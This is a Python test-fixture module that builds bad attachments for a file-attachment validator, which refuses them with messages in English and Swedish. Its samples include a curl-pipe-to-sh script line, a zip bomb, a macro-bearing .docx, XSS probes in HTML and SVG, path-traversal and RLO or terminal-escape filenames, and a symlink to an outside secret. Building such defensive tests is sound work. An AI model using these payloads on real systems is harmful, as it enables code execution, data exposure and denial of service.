"""The bad-file corpus, for attachments: files and names that must never be taken, and
things in an archive's attachments folders that `check` must name.

`REFUSED` are what a person might send (`brotui attach ID FILE`, or over SSH on
standard input): each is refused by `attach` with a sentence, in English and Swedish,
and nothing is written. They are generated here (an ELF program, a zip bomb, a 30 MB
file are not bytes to keep in the repository). `IN_TREE` are put into an archive with
plain git (as a colleague's script would) by `build_archive`: each is named by
`brotui.core.attachments.check`, on its path, with a sentence.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.corpus import GIT_ENV, HERE, SECRET, SEED_ID

BIG_BYTES = 30_000_000


def pdf() -> bytes:
    """A small valid-looking PDF (its header is what tells the type)."""
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def elf() -> bytes:
    """A real program: the system's own `true`."""
    path = shutil.which("true") or "/bin/true"
    return Path(path).read_bytes()


def script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"


def _zip(entries: dict[str, bytes], first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        if first is not None:
            z.writestr(zipfile.ZipInfo(first), entries.pop(first), zipfile.ZIP_STORED)
        for name, data in entries.items():
            z.writestr(name, data)
    return buffer.getvalue()


_DOCX_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
               b'2006/content-types"><Override PartName="/word/document.xml" ContentType='
               b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+'
               b'xml"/></Types>')


def zip_bomb() -> bytes:
    """A Word file's shape around 60 MB of zeros, packed into some 60 kB."""
    return _zip({"[Content_Types].xml": _DOCX_TYPES, "word/document.xml": b"\0" * 60_000_000})


def zip_archive() -> bytes:
    """A plain zip of two files: an archive, not a document."""
    return _zip({"bildspel.pdf": pdf(), "lasmig.txt": b"Hej\n"})


def macro_docx() -> bytes:
    """A Word file carrying a VBA project (what a .docm holds), named .docx."""
    return _zip({"[Content_Types].xml": _DOCX_TYPES, "word/document.xml": b"<w:document/>",
                 "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 100})


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>\n'


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde"


def big() -> bytes:
    return pdf() + b"\0" * (BIG_BYTES - len(pdf()))


@dataclass(frozen=True)
class Refused:
    """What a person sends, and a piece of the sentence that refuses it."""

    case: str
    name: str  # the name it is to be kept under
    data: Callable[[], bytes]
    en: str
    sv: str


REFUSED: list[Refused] = [
    Refused("name-dotdot", "../x", pdf, "may not hold / or \\", "får inte innehålla / eller \\"),
    Refused("name-dotdot-deep", "../../../etc/passwd", pdf, "give the file's name only",
            "ange bara filens namn"),
    Refused("name-dots", "..", pdf, "may not start with a dot", "får inte börja med en punkt"),
    Refused("name-hidden", ".bashrc", pdf, "may not start with a dot",
            "får inte börja med en punkt"),
    Refused("name-esc", "Bild\x1b[31mspel.pdf", pdf, "control character (U+001B \\x1b)",
            "styrtecken (U+001B \\x1b)"),
    Refused("name-rlo", "Bildspel\u202efdp.exe", pdf, "invisible or control character "
            "(U+202E \\u202e)", "osynligt tecken eller styrtecken (U+202E \\u202e)"),
    Refused("name-newline", "Bild\nspel.pdf", pdf, "(U+000A \\x0a)", "(U+000A \\x0a)"),
    Refused("name-windows", "CON.pdf", pdf, "reserved name on Windows",
            "reserverat namn i Windows"),
    Refused("name-colon", "a:b.pdf", pdf, "may not hold the character :",
            "får inte innehålla tecknet :"),
    Refused("name-long", "B" * 120 + ".pdf", pdf, "at most 100 characters", "högst 100 tecken"),
    Refused("elf", "verktyg", elf, "This is a program (ELF)", "Det här är ett program (ELF)"),
    Refused("elf-as-pdf", "Bildspel.pdf", elf, "This is a program (ELF)",
            "Det här är ett program (ELF)"),
    Refused("script", "installera.sh", script, "This is a script", "Det här är ett skript"),
    Refused("script-as-text", "anteckningar.txt", script, "This is a script",
            "Det här är ett skript"),
    Refused("zip-bomb", "Bildspel.docx", zip_bomb, "a zip bomb?", "en zip-bomb?"),
    Refused("zip-archive", "bilder.zip", zip_archive, "a packed archive (ZIP)",
            "ett packat arkiv (ZIP)"),
    Refused("macros", "Rapport.docx", macro_docx, "holds macros or embedded programs",
            "innehåller makron eller inbäddade program"),
    Refused("html", "sida.html", html, "a web page or XML (HTML)", "en webbsida eller XML (HTML)"),
    Refused("svg", "bild.svg", svg, "(SVG), which can hold scripts", "(SVG), som kan innehålla"),
    Refused("old-office", "Rapport.doc", old_office, "an old Office file",
            "en äldre Office-fil"),
    Refused("wrong-extension", "Bildspel.pdf", png, "The file is PNG, but its name ends in .pdf:"
            " call it Bildspel.png", "Filen är PNG, men namnet slutar på .pdf: kalla den "
            "Bildspel.png"),
    Refused("big", "Bildspel.pdf", big, "The file is 30.0 MB; an attachment may be at most "
            "20.0 MB", "Filen är 30,0 MB; en bilaga får vara högst 20,0 MB"),
    Refused("empty", "Bildspel.pdf", lambda: b"", "The file is empty", "Filen är tom"),
]

# ------------------------------------------------------------- in an archive, by plain git

GOOD_ID = "korpus/2021-06-30"
FOLDER = f"protocols/{GOOD_ID}.files"


@dataclass(frozen=True)
class InTree:
    """Something an archive's attachments folder holds, put there with git; what `check`
    says about it (a piece of the sentence) and whether it is an error."""

    case: str
    path: str
    en: str
    sv: str
    error: bool = True
    make: Callable[[Path], None] | None = None
    data: Callable[[], bytes] = pdf


def _link(to: str) -> Callable[[Path], None]:
    def make(target: Path) -> None:
        os.symlink(to, target)

    return make


IN_TREE: list[InTree] = [
    InTree("link-outside", f"{FOLDER}/Hemligt.pdf", "A symbolic link (to ../../../outside/",
           "En symbolisk länk (till ../../../outside/",
           make=_link("../../../outside/hemligt.txt")),
    InTree("elf-named-pdf", f"{FOLDER}/Bildspel.pdf", "This is a program (ELF)",
           "Det här är ett program (ELF)", data=elf),
    InTree("hidden", f"{FOLDER}/.gömd.txt", "may not start with a dot",
           "får inte börja med en punkt", data=lambda: b"text\n"),
    InTree("escape-name", f"{FOLDER}/Bild\x1b]0;owned\x07.pdf", "(U+001B \\x1b)",
           "(U+001B \\x1b)"),
    InTree("newline-name", f"{FOLDER}/Bild\nspel.pdf", "(U+000A \\x0a)", "(U+000A \\x0a)"),
    InTree("nested", f"{FOLDER}/mapp/Bildspel.pdf", "A folder inside the attachments folder",
           "En mapp i bilagemappen"),
    InTree("orphan", "protocols/korpus/2021-07-01.files/Bildspel.pdf", "those minutes do not "
           "exist", "det protokollet finns inte"),
    InTree("no-entry", f"{FOLDER}/Extra.pdf", "No item names this attachment",
           "Ingen punkt nämner den här bilagan", error=False),
]
# The valid protocol's item entries: one names the ELF (so only its type is wrong), one
# names a file that is not there.
ENTRY_WITHOUT_FILE = "Saknas.pdf"


def build_archive(root: Path) -> Path:
    """An archive (root/archive) with the seed minutes, a valid protocol whose folder holds
    every IN_TREE case, committed with plain git and checked out; outside it
    (root/outside) a file with a secret that the link points to."""
    outside = root / "outside"
    outside.mkdir(parents=True)
    (outside / "hemligt.txt").write_text(SECRET + "\n")
    repo = root / "archive"
    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
    seed = (HERE.parent.parent / "protocols" / f"{SEED_ID}.yaml").read_bytes()
    (repo / "protocols" / SEED_ID).parent.mkdir(parents=True)
    (repo / "protocols" / f"{SEED_ID}.yaml").write_bytes(seed)
    good = seed.replace(b"2020-02-20", b"2021-06-30").replace(
        "Hägersten-Liljeholmens".encode(), b"Korpus").replace(b"08 508 23 326", b"08-123 45 67")
    good = good.replace(b"  attachments:\n  - Bildspel\n",
                        b"  attachments:\n  - Bildspel.pdf\n", 1).replace(
        b"  attachments:\n  - Bildspel\n", f"  attachments:\n  - {ENTRY_WITHOUT_FILE}\n".encode(),
        1)
    (repo / "protocols" / "korpus").mkdir()
    (repo / "protocols" / f"{GOOD_ID}.yaml").write_bytes(good)
    for case in IN_TREE:
        target = repo / case.path
        target.parent.mkdir(parents=True, exist_ok=True)
        if case.make is not None:
            case.make(target)
        else:
            target.write_bytes(case.data())
    env = {**os.environ, **GIT_ENV}
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True, env=env)
    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", "Korpus: trasiga bilagor"],
                   check=True, env=env)
    return repo
